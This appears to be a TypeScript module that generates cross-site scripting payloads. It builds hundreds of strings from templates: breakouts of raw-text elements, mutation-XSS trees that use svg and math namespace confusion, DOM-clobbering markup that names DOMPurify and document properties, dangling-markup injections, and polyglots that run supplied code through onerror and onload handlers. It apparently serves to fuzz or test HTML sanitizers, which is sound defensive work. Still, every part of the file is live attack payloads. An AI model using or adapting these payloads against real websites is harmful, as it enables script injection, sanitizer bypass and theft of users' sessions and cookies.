import type { Writer } from './payload-writer.ts'

/** Elements whose content is read in another way, left early. */
export function breakouts(): Writer[] {
  const around = [
    'title',
    'textarea',
    'style',
    'script',
    'noscript',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'select',
    'option',
    'plaintext',
    'listing',
    'svg',
    'math',
    'object',
    'audio',
    'video',
    'canvas',
  ]
  const image = (code: string) => `<img src=x onerror=${code}>`
  const inside: ((tag: string) => Writer)[] = [
    (tag) => (code) => `<${tag}></${tag}>${image(code)}`,
    (tag) => (code) => `<${tag}><!--</${tag}>${image(code)}-->`,
    (tag) => (code) => `<${tag}><a title="</${tag}>${image(code)}">`,
    (tag) => (code) => `<${tag}>&lt;/${tag}&gt;${image(code)}`,
    (tag) => (code) => `<${tag}/>${image(code)}`,
    (tag) => (code) => `<${tag}></${tag} >${image(code)}</${tag}>`,
    (tag) => (code) => `<${tag}><${tag}></${tag}>${image(code)}`,
    (tag) => (code) => `<a id="<${tag}>">${image(code)}</a></${tag}>`,
  ]
  const comments: Writer[] = [
    '<!-->',
    '<!--->',
    '<!-- --!>',
    '<!--- -->',
    '<!-',
    '<![CDATA[',
    '<?xml ',
    '</ ',
    '<!x ',
    '<%',
    '<!doctype x [',
    ']]>',
  ].map(
    (start): Writer =>
      (code) =>
        `${start}${image(code)}-->`,
  )
  return [...around.flatMap((tag) => inside.map((write) => write(tag))), ...comments]
}

/** Trees that become another tree when they are written out and read again. */
export function mutations(): Writer[] {
  const roots = ['svg', 'math']
  const points = [
    'mtext',
    'mi',
    'ms',
    'annotation-xml encoding=text/html',
    'title',
    'desc',
    'foreignObject',
    'mglyph',
    'malignmark',
  ]
  const breakers = ['table', 'p', 'form', 'select', 'li', 'b', 'h1', 'dd', 'button']
  const raws = ['style', 'xmp', 'noscript', 'title', 'textarea', 'noembed', 'iframe']
  const crossed = roots.flatMap((root) =>
    points.flatMap((point) =>
      breakers.flatMap((breaker) =>
        raws.map(
          (raw): Writer =>
            (code) => {
              const payload = `<img src=x onerror=${code}>`
              return `<${root}><${point}><${breaker}><mglyph><${raw}><!--</${raw}>${payload}--><a title="</${raw}>${payload}">`
            },
        ),
      ),
    ),
  )
  const known: Writer[] = [
    (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
    (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    (code) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${code}>">`,
    (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    (code) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
    (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    (code) => `<img alt="\`\`onerror=${code} x=">`,
    (code) => `<p style="font-family:'\\22\\3bx:expression(${code})'">`,
    (code) => `${'<div>'.repeat(510)}<svg><style><a title="</style><img src=x onerror=${code}>">`,
    (code) => `${'<form><div>'.repeat(120)}<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    (code) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
  ]
  return [...crossed, ...known]
}

const NAMES = `
  body head documentElement cookie createElement getElementById attributes parentNode nodeName firstChild
  removeChild setAttribute implementation defaultView location top DOMPurify ownerDocument
`
  .trim()
  .split(/\s+/)

export function templates(): Writer[] {
  return [
    ...NAMES.flatMap((name): Writer[] => [
      (code) => `<form id=${name}><input name=${name}><input name=attributes></form><img src=x onerror=${code}>`,
      (code) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code}">press</a>`,
      (code) => `<img name=${name}><form name=${name} onfocus=${code} tabindex=1 autofocus><input name=nodeName>`,
    ]),
    (code) => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
    (code) => `<template><template><img src=x onerror=${code}></template></template>`,
    (code) => `<div popover id=p onbeforetoggle=${code}>x</div><button popovertarget=p>press</button>`,
    (code) => `<a is=img src=x onerror=${code}>x</a>`,
    (code) => `<b accesskey=x onclick=${code} contenteditable>x</b>`,
  ]
}

export function dangling(): Writer[] {
  const starts = [
    '<a href="',
    "<img src='",
    '<textarea>',
    '<button formaction="',
    '<select><option>',
    '<style>',
    '<title>',
    '<!--',
    '<p title="',
    '<base target="',
    '<plaintext>',
    '<iframe src="',
  ]
  return starts.map(
    (start): Writer =>
      (code) =>
        `<img src=x onerror=${code}>${start}<svg onload=${code}>`,
  )
}

export function polyglots(): Writer[] {
  return [
    (code) => `"'>--></style></title></textarea></noscript></script><svg/onload=${code}><img src=x onerror='${code}'>`,
    (code) =>
      `javascript:/*--></title></style></textarea></script></xmp><svg/onload='/*"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
    (code) => `'">><marquee><img src=x onerror=${code}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${code}>`,
    (code) => `{{constructor.constructor('${code}')()}}<img src=x onerror=${code}>`,
    (code) => `\${${code}}#{${code}}<%=${code}%><img src=x onerror=${code}>`,
    (code) => `&lt;img src=x onerror=${code}&gt;`,
    (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
    (code) => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
    (code) => `＜script＞${code}＜/script＞`,
  ]
}
